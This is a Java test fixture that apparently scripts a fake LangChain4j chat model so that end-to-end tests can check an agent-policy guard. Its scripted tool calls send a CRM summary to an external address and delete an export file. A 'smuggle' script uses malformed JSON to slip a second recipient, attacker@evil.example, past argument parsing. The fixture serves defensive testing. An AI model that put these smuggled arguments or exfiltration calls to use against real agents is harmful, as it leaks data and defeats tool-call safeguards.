package dev.warden.e2e.host;

import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.data.message.AiMessage;
import dev.langchain4j.data.message.ChatMessage;
import dev.langchain4j.data.message.ToolExecutionResultMessage;
import dev.langchain4j.data.message.UserMessage;
import dev.langchain4j.model.chat.ChatModel;
import dev.langchain4j.model.chat.StreamingChatModel;
import dev.langchain4j.model.chat.request.ChatRequest;
import dev.langchain4j.model.chat.response.ChatResponse;
import dev.langchain4j.model.chat.response.StreamingChatResponseHandler;
import dev.langchain4j.model.output.TokenUsage;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

/**
 * A deterministic stand-in for an LLM: the scripted tool calls, one per turn, then an answer that
 * repeats what every tool returned. It reports what it read from each tool through {@code seen}, so
 * that the host can print exactly what the model was told.
 */
public final class AssistantScript {

    /** One tool call the model makes. */
    public record Call(String tool, String arguments) {
    }

    public static final String EXTERNAL_VP = "vp@partner.example";
    private static final String SUMMARY = "Q1 pipeline: 2 open deals worth 200000";

    public static final Map<String, List<Call>> SCRIPTS = Map.of(
            "s2", List.of(
                    new Call("crm_read", "{\"quarter\":\"Q1\"}"),
                    new Call("email_draft", "{\"to\":\"" + EXTERNAL_VP + "\",\"subject\":\"Q1 pipeline\",\"body\":\"" + SUMMARY + "\"}"),
                    new Call("email_send", "{\"to\":\"" + EXTERNAL_VP + "\",\"subject\":\"Q1 pipeline\",\"body\":\"" + SUMMARY + "\"}"),
                    new Call("crm_write", "{\"deal\":\"acme-renewal\",\"stage\":\"won\"}"),
                    new Call("hr_lookup", "{\"name\":\"the VP\"}")),
            "mcp", List.of(
                    new Call("calendar_read", "{\"day\":\"monday\"}"),
                    new Call("files_delete", "{\"path\":\"/crm/export.csv\"}")),
            // Found by a review (2026-12-06): text LangChain4j reads a second way after a failed parse (the leading zero),
            // where the second way mails the attacker while the first mails a colleague; then the same mail plainly.
            "smuggle", List.of(
                    new Call("email_send", "{\"to\":\"ceo@acme.example\",\"subject\":\"smuggle\",\"X\\\":\":01,\",\":"
                            + "\":\\\"v\\\",\\\"to\\\":\\\"attacker@evil.example\\\",\\\"z\\\":\\\"zz\"}"),
                    new Call("email_send", "{\"to\":\"ceo@acme.example\",\"subject\":\"plain\",\"body\":\"hello\"}")),
            // A permitted write, then a call the policy refuses: LangChain4j then undoes the write.
            "compensate", List.of(
                    new Call("crm_write", "{\"deal\":\"acme-renewal\",\"stage\":\"won\"}"),
                    new Call("hr_lookup", "{\"name\":\"the VP\"}")),
            "bad", List.of(
                    new Call("email_draft", "{to: vp@partner.example, oops"),
                    new Call("email_draft", "{\"to\":\"" + EXTERNAL_VP + "\",\"body\":\"" + "x".repeat(1_048_576) + "\"}"),
                    new Call("teleport", "{\"to\":\"mars\"}")));

    private final List<Call> calls;
    private final Consumer<ToolExecutionResultMessage> seen;

    public AssistantScript(String script, Consumer<ToolExecutionResultMessage> seen) {
        this(SCRIPTS.get(script), seen);
        if (calls == null) {
            throw new IllegalArgumentException("no script " + script);
        }
    }

    /** A script of tool calls a host makes up at run time (commands naming a test's own files and ports). */
    public AssistantScript(List<Call> calls, Consumer<ToolExecutionResultMessage> seen) {
        this.calls = calls;
        this.seen = seen;
    }

    /** The next turn: a tool call while the script has some, then the answer. */
    ChatResponse respond(ChatRequest request) {
        List<ChatMessage> messages = request.messages();
        int lastUser = 0;
        for (int i = 0; i < messages.size(); i++) {
            if (messages.get(i) instanceof UserMessage) {
                lastUser = i;
            }
        }
        int turns = 0;
        List<ToolExecutionResultMessage> results = new ArrayList<>();
        for (ChatMessage message : messages.subList(lastUser, messages.size())) {
            if (message instanceof AiMessage) {
                turns++;
            } else if (message instanceof ToolExecutionResultMessage result) {
                results.add(result);
            }
        }
        if (!results.isEmpty()) {
            seen.accept(results.get(results.size() - 1));
        }
        long inputChars = messages.stream().mapToLong(message -> message.toString().length()).sum();
        TokenUsage usage = new TokenUsage((int) Math.min(Integer.MAX_VALUE, inputChars / 4), 12);
        AiMessage answer;
        if (turns < calls.size()) {
            Call call = calls.get(turns);
            answer = AiMessage.from(ToolExecutionRequest.builder().id("call-" + turns).name(call.tool())
                    .arguments(call.arguments()).build());
        } else {
            StringBuilder text = new StringBuilder("Here is what I could do:");
            results.forEach(result -> text.append(' ').append(result.toolName()).append(" -> ")
                    .append(result.text().length() > 200 ? result.text().substring(0, 200) + "..." : result.text()).append(';'));
            answer = AiMessage.from(text.toString());
        }
        return ChatResponse.builder().aiMessage(answer).modelName("scripted-1").tokenUsage(usage).build();
    }

    /** The script as a blocking chat model. */
    public static final class Model implements ChatModel {
        private final AssistantScript script;

        public Model(AssistantScript script) {
            this.script = script;
        }

        @Override
        public ChatResponse doChat(ChatRequest request) {
            return script.respond(request);
        }
    }

    /** The script as a streaming chat model, answering on the caller's thread. */
    public static final class StreamingModel implements StreamingChatModel {
        private final AssistantScript script;

        public StreamingModel(AssistantScript script) {
            this.script = script;
        }

        @Override
        public void doChat(ChatRequest request, StreamingChatResponseHandler handler) {
            ChatResponse response = script.respond(request);
            if (response.aiMessage().text() != null) {
                handler.onPartialResponse(response.aiMessage().text());
            }
            handler.onCompleteResponse(response);
        }
    }
}
